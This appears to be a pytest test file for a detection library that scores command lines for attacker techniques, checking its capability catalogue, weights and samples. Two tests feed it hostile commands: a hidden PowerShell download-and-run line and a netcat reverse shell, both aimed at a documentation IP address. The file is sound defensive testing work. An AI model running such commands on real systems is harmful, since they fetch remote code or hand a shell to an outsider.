"""Every capability finds what it must, leaves alone what it must not, and each sample has the score it promises."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from perilune.analysis import analyze, capabilities
from perilune.errors import ContentError
from tests.analysis import samples

SAMPLES = list(samples.all_samples())
CATALOGUE = capabilities.load(capabilities.packaged_texts())  # with samples, every expression compiled


@pytest.mark.parametrize(("name", "kind", "sample"), SAMPLES, ids=[f"{n}: {s['text'][:40]!r}" for n, _, s in SAMPLES])
def test_a_sample_is_judged_as_its_file_says(name: str, kind: str, sample: dict[str, Any]) -> None:
    found = samples.analysed(sample)
    assert (name in {one.id for one in found.capabilities}) == (kind == "positive")
    least, most = sample["score"]
    assert least <= found.score <= most, "run: python -m tests.analysis.samples, and review the diff"


@pytest.mark.parametrize("one", CATALOGUE.definitions, ids=lambda one: one.id)
def test_a_capability_has_weight_reason_samples_and_a_technique(one: capabilities.Definition) -> None:
    assert one.source == f"{one.id}.yml"
    assert one.weight != 0
    assert len(one.why) > 15
    assert one.samples["positive"], "no positive sample"
    assert one.samples["negative"], "no negative sample"
    if one.family != "context":
        assert one.weight > 0
        assert one.techniques or one.id == "listed-indicator"
    else:
        assert one.weight < 0
    assert all(t[0] == "T" and t[1:5].isdigit() for t in one.techniques)


def test_no_negative_sample_is_called_high() -> None:
    assert [s["text"] for _, kind, s in SAMPLES if kind == "negative" and s["score"][1] >= 80] == []


def test_every_family_has_capabilities() -> None:
    assert {one.family for one in CATALOGUE.definitions} == set(capabilities.FAMILIES)


def _definition(**changes: object) -> dict[str, object]:
    return {
        "id": "a", "title": "A", "family": "execution", "techniques": ["T1059"], "weight": 1.0, "why": "Because.",
        "where": {"x": "abc"}, "any": ["x"], "samples": {"positive": [], "negative": []}, **changes,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"weight": 0}, "weight of zero"),
        ({"weight": 3.0}, "one pattern alone"),
        ({"family": "x"}, "no such family"),
        ({"any": ["y"]}, "names no test"),
        ({"where": {"x": "abc", "y": "d"}}, "never used"),
        ({"where": {"x": {"program": "("}}}, "test x"),
        ({"where": {"x": {"wrong": "a"}}}, "test x"),
    ],
)
def test_a_faulty_definition_is_refused_with_its_place(changes: dict[str, object], said: str) -> None:
    with pytest.raises(ContentError, match=said) as caught:
        capabilities.parse(_definition(**changes), "a.yml")
    assert caught.value.where == "a.yml"


def test_missing_keys_and_bad_patterns_are_refused() -> None:
    with pytest.raises(ContentError, match="missing: weight"):
        capabilities.parse({k: v for k, v in _definition().items() if k != "weight"}, "a.yml")
    with pytest.raises(ContentError, match="RE2"):
        capabilities.load([("a.yml", yaml.safe_dump(_definition(where={"x": "(?<=a)b"})))])
    with pytest.raises(ContentError, match="is taken by"):
        capabilities.load([("a.yml", yaml.safe_dump(_definition())), ("b.yml", yaml.safe_dump(_definition()))])


def test_the_first_texts_are_judged_as_all_later_ones(monkeypatch: pytest.MonkeyPatch) -> None:
    def found(few: int) -> list[object]:
        monkeypatch.setattr(capabilities, "FEW", few)
        return [analyze(s["text"], language=s.get("language", ""), catalogue=CATALOGUE) for _, _, s in SAMPLES]

    assert found(1 << 40) == found(0)


def test_the_packaged_catalogue_leaves_only_the_samples_out() -> None:
    shown = [{key: str(value) for key, value in _told(one).items()} for one in capabilities.packaged().definitions]
    assert shown == [{key: str(value) for key, value in _told(one).items()} for one in CATALOGUE.definitions]


def _told(one: capabilities.Definition) -> dict[str, object]:
    ways = {
        (name, way): getattr(getattr(t, way), "pattern", getattr(t, way))
        for name, t in one.tests.items()
        for way in _WAYS
    }
    return {"id": one.id, "weight": one.weight, "any": one.alternatives, "unless": one.unless, "ways": ways}


_WAYS = ("text", "program", "argument", "by", "path", "layer", "indicator")


def test_the_user_s_own_catalogue_is_used_instead() -> None:
    own = capabilities.load([("a.yml", yaml.safe_dump(_definition(where={"x": "zebra"})))])
    found = analyze("ride the zebra", catalogue=own)
    assert [one.id for one in found.capabilities] == ["a"]
    assert found.capabilities[0].signs[0].text == "zebra"


def test_a_score_is_the_sum_of_its_reasons() -> None:
    import math

    found = analyze('powershell -w hidden -c "iex (iwr http://203.0.113.1/a)"')
    total = sum(one.odds for one in found.reasons)
    assert found.score == round(100 / (1 + math.exp(-max(-9.0, min(9.0, total)))))


def test_context_takes_away_only_so_much() -> None:
    command = "nc -e /bin/sh 203.0.113.1 4444"
    excuses = " # path/to/file C:\\Windows\\CCM\\ http://localhost/ --help"
    plain, excused = analyze(command), analyze(command + excuses)
    off = sum(one.odds for one in excused.reasons if one.odds < 0 and one.capability)
    assert -1.5 <= off < 0
    assert excused.score >= plain.score - 25
